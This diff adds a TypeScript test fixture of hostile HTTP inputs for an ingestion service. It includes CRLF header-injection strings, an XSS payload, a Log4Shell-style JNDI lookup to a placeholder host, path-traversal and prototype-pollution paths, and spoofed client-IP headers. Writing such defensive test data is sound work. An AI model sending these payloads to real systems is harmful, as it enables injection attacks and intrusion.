@@ -1,0 +1,100 @@
+/** Labels of a body, none of which may change what it is taken for. */
+export const contentTypes: readonly (string | null)[] = [
+  null,
+  "application/json",
+  "application/json; charset=utf-16",
+  "application/json;charset=UTF-8",
+  "text/plain",
+  "text/plain;charset=UTF-8",
+  "text/html",
+  "text/xml",
+  "image/png",
+  "application/x-www-form-urlencoded",
+  "multipart/form-data; boundary=x",
+  "application/octet-stream",
+  "application/gzip",
+  "application/problem+json",
+  "x",
+  ";;;",
+  'a/b; charset="',
+];
+
+/** Claims about a body's encoding, as false as labels. */
+export const contentEncodings: readonly (string | null)[] = [
+  null,
+  "gzip",
+  "br",
+  "deflate",
+  "identity",
+  "gzip, gzip",
+  "zstd",
+  "x",
+];
+
+/** What strangers put into headers to get it into answers, logs or files. `INJECTED` must not come back anywhere. */
+export const hostileHeaders: readonly Readonly<Record<string, string>>[] = [
+  { origin: "null" },
+  { origin: "https://a.example%0d%0aX-Test: INJECTED" },
+  { origin: "x".repeat(8000) },
+  { "user-agent": "x".repeat(8000) },
+  { "user-agent": '"><script>INJECTED</script>' },
+  { "user-agent": "\u00ff\u0080\u00e9" },
+  { "user-agent": "${jndi:ldap://INJECTED.example/a}" },
+  { referer: "javascript:INJECTED" },
+  { "x-forwarded-for": "INJECTED" },
+  { "x-forwarded-host": "INJECTED.example" },
+  { "cf-connecting-ip": "INJECTED" },
+  { "cf-connecting-ip": "1.2.3.4, 5.6.7.8" },
+  { "cf-connecting-ip": ":".repeat(1000) },
+  { "sluice-client-ip": "INJECTED", "sluice-proxy-secret": "INJECTED" },
+  { "sluice-client-city": "INJECTED%0d%0a" },
+  { "sec-gpc": "1, 1" },
+  { "x-retry-count": "-1e400" },
+  { anonymousid: "INJECTED" },
+  { "content-encoding": "INJECTED" },
+  { "transfer-encoding-x": "chunked" },
+  { "accept-language": "x".repeat(8000) },
+  { cookie: "INJECTED=1" },
+];
+
+/** Authorization headers that name no good key. */
+export const hostileAuthorizations: readonly string[] = [
+  "Basic",
+  "Basic ",
+  "Basic =",
+  "Basic !!!!",
+  "Basic AAAA",
+  `Basic ${"A".repeat(8000)}`,
+  `Basic ${btoa("shop.web.p1.AAAAAAAAAAAAAAAAAAAAAA:")}`,
+  `Basic ${btoa("__proto__:")}`,
+  `Basic ${btoa("\r\nX-Test: INJECTED")}`,
+  "Bearer INJECTED",
+  "Digest username=INJECTED",
+  "basic basic basic",
+  "\u00ff",
+];
+
+/** Paths and queries. */
+export const hostilePaths: readonly string[] = [
+  "/v1/projects/%0d%0aX-Test:%20INJECTED/settings",
+  "/v1/projects/%ff%fe/settings",
+  "/v1/projects/%E0%A4%A/settings",
+  "/v1/projects/..%2f..%2fregistry/settings",
+  "/v1/projects/__proto__/settings",
+  "/v1/projects//settings",
+  "/sourceConfig/?writeKey=%0d%0aX-Test:%20INJECTED",
+  "/sourceConfig/?writeKey=a&writeKey=b&writeKey[]=c",
+  "/v1/pixel/track?data=%ff%fe",
+  "/v1/pixel/track?data=SU5KRUNURUQ=",
+  "/v1/pixel/__proto__?data=e30=",
+  "/pixel/v1/track?__proto__.polluted=INJECTED",
+  "/pixel/v1/track?writeKey=INJECTED&a.b.c=1&a.b=2&a=3",
+  `/pixel/v1/track?${"a.".repeat(4000)}=1`,
+  `/pixel/v1/page?${"a&".repeat(4000)}`,
+  "/v1/batch/../internal/counters",
+  "/v1/%62atch",
+  "//v1/batch",
+  "/v1/batch%00",
+  `/${"x".repeat(8000)}`,
+  "/v1/internal/metrics?token=INJECTED",
+];
